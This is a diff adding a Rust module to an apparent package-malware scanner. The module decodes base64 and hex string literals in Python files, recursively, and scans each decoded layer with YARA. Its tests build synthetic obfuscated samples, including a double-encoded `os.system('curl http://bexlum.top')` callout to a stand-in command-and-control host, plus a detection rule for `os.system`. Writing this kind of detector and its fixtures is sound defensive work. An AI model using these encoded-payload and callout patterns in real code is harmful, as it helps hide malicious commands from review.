@@ -1,0 +1,441 @@
+//! Per-file analysis artifacts: the parse-once IR every engine shares.
+//!
+//! Successive versions of a registry package share most of their files,
+//! yet the seed scan path treated every request as opaque bytes and
+//! re-ran lexing, parsing and string scanning per request. A
+//! [`FileAnalysis`] computes everything a file will ever be asked for —
+//! spanned tokens, the tolerant-parsed module, the interned
+//! string-literal table, **decoded layers** (base64/hex payloads hidden
+//! in literals) and the ruleset's string-definition hits on every layer
+//! — exactly once, keyed by content digest, so the artifact cache turns
+//! a version bump into `changed files` parses instead of `all files`.
+//!
+//! Decoded layers close a measured evasion gap: `docs/threat_model.md`
+//! records a ~37-point recall collapse under string-encoding
+//! obfuscation for rules that only see surface text. Literals above an
+//! entropy/length threshold are base64/hex-decoded (recursively, to a
+//! bounded depth — attackers double-encode), and YARA scans each
+//! decoded layer as its own unit, with findings tagged by layer so
+//! verdicts stay explainable.
+
+use std::fmt;
+use std::sync::Arc;
+
+use pysrc::{Module, SpannedToken, StringTable};
+use yara_engine::{FileHits, Scanner};
+
+use crate::cache::DigestKey;
+use crate::request::FileEntry;
+
+/// How a decoded layer was recovered from its source literal.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum LayerEncoding {
+    /// RFC 4648 base64 (the `b64decode(...)` idiom).
+    Base64,
+    /// Lowercase/uppercase hex pairs (the `bytes.fromhex(...)` idiom).
+    Hex,
+}
+
+impl fmt::Display for LayerEncoding {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(match self {
+            LayerEncoding::Base64 => "base64",
+            LayerEncoding::Hex => "hex",
+        })
+    }
+}
+
+/// One decoded string-literal payload of a file.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DecodedLayer {
+    /// The encoding that produced this layer.
+    pub encoding: LayerEncoding,
+    /// Nesting depth: 1 decodes a surface literal, 2 a literal found
+    /// inside a depth-1 layer, and so on.
+    pub depth: u8,
+    /// 1-based source line of the (surface) literal this layer descends
+    /// from — the explainability anchor for layer-tagged findings.
+    pub line: u32,
+    /// The decoded bytes, scanned by YARA as an independent unit.
+    pub data: Vec<u8>,
+}
+
+/// Decoded-layer extraction thresholds.
+#[derive(Debug, Clone)]
+pub struct ArtifactConfig {
+    /// Maximum decode recursion depth; 0 disables layer extraction
+    /// entirely (the A/B lever for the layered-robustness measurement).
+    pub max_decode_depth: u8,
+    /// Minimum encoded-literal length worth attempting (short literals
+    /// decode to nothing a rule could match).
+    pub min_encoded_len: usize,
+    /// Minimum Shannon entropy (bits/byte) of the literal text; prose
+    /// and repeated-character padding stay below it, encoded payloads
+    /// sit well above.
+    pub min_entropy: f64,
+    /// Hard per-file bound on extracted layers (decode-bomb guard).
+    pub max_layers: usize,
+}
+
+impl Default for ArtifactConfig {
+    fn default() -> Self {
+        ArtifactConfig {
+            max_decode_depth: 2,
+            min_encoded_len: 12,
+            min_entropy: 2.5,
+            max_layers: 64,
+        }
+    }
+}
+
+impl ArtifactConfig {
+    /// A config with layer extraction disabled.
+    pub fn without_layers() -> Self {
+        ArtifactConfig {
+            max_decode_depth: 0,
+            ..ArtifactConfig::default()
+        }
+    }
+}
+
+/// The parse-once, content-addressed analysis of one file.
+///
+/// Everything here is a pure function of `(file bytes, python-ness,
+/// ruleset, config)`, which is what makes the artifact cacheable: the
+/// hub's [`crate::ScanHub`] keys a shared LRU by [`FileEntry::digest`]
+/// and every engine — prefilter routing, YARA condition evaluation,
+/// Semgrep's structural matcher, decoded-layer scanning — consumes the
+/// same artifact without touching the bytes again.
+#[derive(Debug)]
+pub struct FileAnalysis {
+    /// The content digest this artifact is addressed by.
+    pub digest: DigestKey,
+    /// The raw bytes (shared with the originating request — building an
+    /// artifact copies no file content).
+    pub bytes: Arc<Vec<u8>>,
+    /// Whether the file was analyzed as Python source.
+    pub is_python: bool,
+    /// The spanned token stream (empty for non-Python files). Literals
+    /// survive here even inside statements the tolerant parser degraded
+    /// to `Stmt::Other`.
+    pub tokens: Vec<SpannedToken>,
+    /// The tolerant-parsed module (Python files only).
+    pub module: Option<Module>,
+    /// The interned string-literal table.
+    pub strings: StringTable,
+    /// Decoded payload layers, in discovery order.
+    pub layers: Vec<DecodedLayer>,
+    /// The whole ruleset's string-definition hits on the raw bytes
+    /// (`None` when the hub has no YARA ruleset).
+    pub yara_hits: Option<FileHits>,
+    /// Per-layer hit sets, parallel to `layers`.
+    pub layer_hits: Vec<FileHits>,
+}
+
+impl FileAnalysis {
+    /// Builds the artifact for one file entry. This is the only place
+    /// in the scan path that lexes, parses, decodes or byte-scans file
+    /// content; everything downstream consumes the result.
+    pub fn build(entry: &FileEntry, scanner: Option<&Scanner<'_>>, cfg: &ArtifactConfig) -> Self {
+        let bytes = entry.shared_bytes();
+        let is_python = entry.is_python();
+        let (tokens, module, strings) = if is_python {
+            let text = String::from_utf8_lossy(&bytes);
+            let tokens = pysrc::lex_spanned(&text);
+            let module = pysrc::parse_module(&text);
+            let strings = pysrc::intern_strings(&tokens);
+            (tokens, Some(module), strings)
+        } else {
+            (Vec::new(), None, StringTable::default())
+        };
+        let layers = decode_layers(&strings, cfg);
+        let yara_hits = scanner.map(|s| s.collect_hits(&bytes));
+        let layer_hits = scanner.map_or_else(Vec::new, |s| {
+            layers.iter().map(|l| s.collect_hits(&l.data)).collect()
+        });
+        FileAnalysis {
+            digest: entry.digest(),
+            bytes,
+            is_python,
+            tokens,
+            module,
+            strings,
+            layers,
+            yara_hits,
+            layer_hits,
+        }
+    }
+
+    /// Approximate heap footprint, for cache accounting.
+    pub fn stored_bytes(&self) -> usize {
+        self.bytes.len()
+            + self.layers.iter().map(|l| l.data.len() + 16).sum::<usize>()
+            + self
+                .strings
+                .literals
+                .iter()
+                .map(|s| s.len() + 24)
+                .sum::<usize>()
+            + self.strings.refs.len() * 8
+            + self.tokens.len() * 64
+            + self
+                .yara_hits
+                .as_ref()
+                .map_or(0, yara_engine::FileHits::stored_bytes)
+            + self
+                .layer_hits
+                .iter()
+                .map(yara_engine::FileHits::stored_bytes)
+                .sum::<usize>()
+    }
+}
+
+/// Extracts decoded layers from a file's interned literals, recursing
+/// into layers that themselves contain encoded literals.
+fn decode_layers(strings: &StringTable, cfg: &ArtifactConfig) -> Vec<DecodedLayer> {
+    let mut layers: Vec<DecodedLayer> = Vec::new();
+    if cfg.max_decode_depth == 0 {
+        return layers;
+    }
+    // One pass over the refs for first-occurrence lines: a per-literal
+    // `first_line` lookup would be O(literals × refs), quadratic on
+    // attacker-controlled input.
+    let mut first_lines = vec![0u32; strings.literals.len()];
+    for r in strings.refs.iter().rev() {
+        first_lines[r.literal as usize] = r.line;
+    }
+    // (text to examine, depth it would decode at, anchor line)
+    let mut pending: Vec<(String, u8, u32)> = Vec::new();
+    for (idx, lit) in strings.literals.iter().enumerate() {
+        pending.push((lit.clone(), 1, first_lines[idx]));
+    }
+    while let Some((text, depth, line)) = pending.pop() {
+        if layers.len() >= cfg.max_layers {
+            break;
+        }
+        let Some((encoding, data)) = decode_candidate(&text, cfg) else {
+            continue;
+        };
+        if layers.iter().any(|l| l.data == data) {
+            continue;
+        }
+        if depth < cfg.max_decode_depth {
+            if let Ok(inner) = std::str::from_utf8(&data) {
+                // A decoded payload that is itself Python carries its
+                // own literals (attackers double-encode); a bare blob
+                // may simply be encoded a second time.
+                let inner_strings = pysrc::intern_strings(&pysrc::lex_spanned(inner));
+                for lit in &inner_strings.literals {
+                    pending.push((lit.clone(), depth + 1, line));
+                }
+                pending.push((inner.to_owned(), depth + 1, line));
+            }
+        }
+        layers.push(DecodedLayer {
+            encoding,
+            depth,
+            line,
+            data,
+        });
+    }
+    layers
+}
+
+/// Attempts to decode one literal, preferring hex (every hex string is
+/// also base64-alphabet, so the more specific decoder goes first).
+fn decode_candidate(text: &str, cfg: &ArtifactConfig) -> Option<(LayerEncoding, Vec<u8>)> {
+    let t = text.trim();
+    if t.len() < cfg.min_encoded_len || digest::shannon_entropy(t.as_bytes()) < cfg.min_entropy {
+        return None;
+    }
+    if looks_hex(t) {
+        return decode_hex(t).map(|d| (LayerEncoding::Hex, d));
+    }
+    if looks_base64(t) {
+        return digest::base64::decode(t)
+            .ok()
+            .filter(|d| !d.is_empty())
+            .map(|d| (LayerEncoding::Base64, d));
+    }
+    None
+}
+
+fn looks_hex(t: &str) -> bool {
+    t.len().is_multiple_of(2)
+        && t.bytes().all(|b| b.is_ascii_hexdigit())
+        // Require at least one letter so long decimal ids don't decode.
+        && t.bytes().any(|b| b.is_ascii_alphabetic())
+}
+
+fn decode_hex(t: &str) -> Option<Vec<u8>> {
+    t.as_bytes()
+        .chunks_exact(2)
+        .map(|pair| {
+            let hi = (pair[0] as char).to_digit(16)?;
+            let lo = (pair[1] as char).to_digit(16)?;
+            Some((hi * 16 + lo) as u8)
+        })
+        .collect()
+}
+
+fn looks_base64(t: &str) -> bool {
+    if !t.len().is_multiple_of(4) {
+        return false;
+    }
+    let body = t.trim_end_matches('=');
+    if t.len() - body.len() > 2 {
+        return false;
+    }
+    body.bytes()
+        .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn entry(name: &str, code: &str) -> FileEntry {
+        FileEntry::new(name, code.as_bytes().to_vec())
+    }
+
+    fn analyze(code: &str) -> FileAnalysis {
+        FileAnalysis::build(&entry("mod.py", code), None, &ArtifactConfig::default())
+    }
+
+    #[test]
+    fn python_entry_carries_tokens_module_and_strings() {
+        let a = analyze("import os\nc2 = 'bexlum.top'\nos.system('id')\n");
+        assert!(a.is_python);
+        assert!(!a.tokens.is_empty());
+        let module = a.module.as_ref().expect("parsed module");
+        assert_eq!(module.body.len(), 3);
+        assert!(a.strings.literals.contains(&"bexlum.top".to_owned()));
+        assert!(a.yara_hits.is_none(), "no scanner supplied");
+    }
+
+    #[test]
+    fn non_python_entry_skips_python_analysis() {
+        let a = FileAnalysis::build(
+            &entry("PKG-INFO", "Name: pkg\nVersion: 1.0\n"),
+            None,
+            &ArtifactConfig::default(),
+        );
+        assert!(!a.is_python);
+        assert!(a.module.is_none());
+        assert!(a.tokens.is_empty());
+        assert!(a.strings.is_empty());
+        assert!(a.layers.is_empty());
+    }
+
+    #[test]
+    fn base64_literal_above_threshold_is_decoded() {
+        let payload = digest::base64::encode(b"import os;os.system('id')");
+        let a = analyze(&format!(
+            "import base64\nblob = '{payload}'\nrun(base64.b64decode(blob))\n"
+        ));
+        assert_eq!(a.layers.len(), 1);
+        let layer = &a.layers[0];
+        assert_eq!(layer.encoding, LayerEncoding::Base64);
+        assert_eq!(layer.depth, 1);
+        assert_eq!(layer.line, 2);
+        assert_eq!(layer.data, b"import os;os.system('id')");
+    }
+
+    #[test]
+    fn hex_literal_is_decoded_as_hex_not_base64() {
+        let hex: String = b"os.system('id')"
+            .iter()
+            .map(|b| format!("{b:02x}"))
+            .collect();
+        let a = analyze(&format!("cmd = bytes.fromhex('{hex}')\n"));
+        assert_eq!(a.layers.len(), 1);
+        assert_eq!(a.layers[0].encoding, LayerEncoding::Hex);
+        assert_eq!(a.layers[0].data, b"os.system('id')");
+    }
+
+    #[test]
+    fn short_or_low_entropy_literals_are_not_decoded() {
+        // Short ('aWQ=' is base64 of 'id'), low-entropy padding, and
+        // prose all stay un-decoded.
+        let a = analyze(
+            "a = 'aWQ='\nb = 'aaaaaaaaaaaaaaaaaaaaaaaa'\nc = 'the quick brown fox jumps'\n",
+        );
+        assert!(a.layers.is_empty(), "unexpected layers: {:?}", a.layers);
+    }
+
+    #[test]
+    fn double_encoded_payload_recurses_to_bounded_depth() {
+        let inner = digest::base64::encode(b"os.system('curl http://bexlum.top')");
+        let once = format!("__import__('base64').b64decode('{inner}').decode('utf-8')");
+        let outer = digest::base64::encode(once.as_bytes());
+        let a = analyze(&format!("layered = '{outer}'\n"));
+        // Depth 1: the decoded python snippet; depth 2: the payload its
+        // literal hides.
+        assert!(a.layers.iter().any(|l| l.depth == 1));
+        let deep: Vec<&DecodedLayer> = a.layers.iter().filter(|l| l.depth == 2).collect();
+        assert!(
+            deep.iter()
+                .any(|l| l.data == b"os.system('curl http://bexlum.top')"),
+            "depth-2 payload not recovered: {:?}",
+            a.layers
+        );
+        // Depth is bounded: default config stops at 2.
+        assert!(a.layers.iter().all(|l| l.depth <= 2));
+    }
+
+    #[test]
+    fn zero_depth_config_extracts_nothing() {
+        let payload = digest::base64::encode(b"import os;os.system('id')");
+        let a = FileAnalysis::build(
+            &entry("mod.py", &format!("blob = '{payload}'\n")),
+            None,
+            &ArtifactConfig::without_layers(),
+        );
+        assert!(a.layers.is_empty());
+    }
+
+    #[test]
+    fn layer_extraction_is_bounded() {
+        let mut code = String::new();
+        for i in 0..200 {
+            let payload = digest::base64::encode(format!("payload number {i:04}").as_bytes());
+            code.push_str(&format!("x{i} = '{payload}'\n"));
+        }
+        let a = analyze(&code);
+        assert!(a.layers.len() <= ArtifactConfig::default().max_layers);
+        assert!(!a.layers.is_empty());
+    }
+
+    #[test]
+    fn scanner_hits_cover_raw_bytes_and_layers() {
+        let rules = yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
+            .expect("compile");
+        let scanner = Scanner::new(&rules);
+        let payload = digest::base64::encode(b"import os;os.system('id')");
+        let a = FileAnalysis::build(
+            &entry("mod.py", &format!("blob = '{payload}'\n")),
+            Some(&scanner),
+            &ArtifactConfig::default(),
+        );
+        // Raw bytes: no surface hit (the atom is encoded away).
+        assert!(a.yara_hits.as_ref().expect("hits").is_empty());
+        // The decoded layer exposes it.
+        assert_eq!(a.layer_hits.len(), a.layers.len());
+        assert!(a.layer_hits.iter().any(|h| !h.is_empty()));
+    }
+
+    #[test]
+    fn artifact_is_deterministic_for_identical_content() {
+        let code = format!(
+            "blob = '{}'\nprint('x')\n",
+            digest::base64::encode(b"import os;os.system('id')")
+        );
+        let a = analyze(&code);
+        let b = analyze(&code);
+        assert_eq!(a.digest, b.digest);
+        assert_eq!(a.layers, b.layers);
+        assert_eq!(a.strings, b.strings);
+        assert!(a.stored_bytes() > 0);
+        assert_eq!(a.stored_bytes(), b.stored_bytes());
+    }
+}
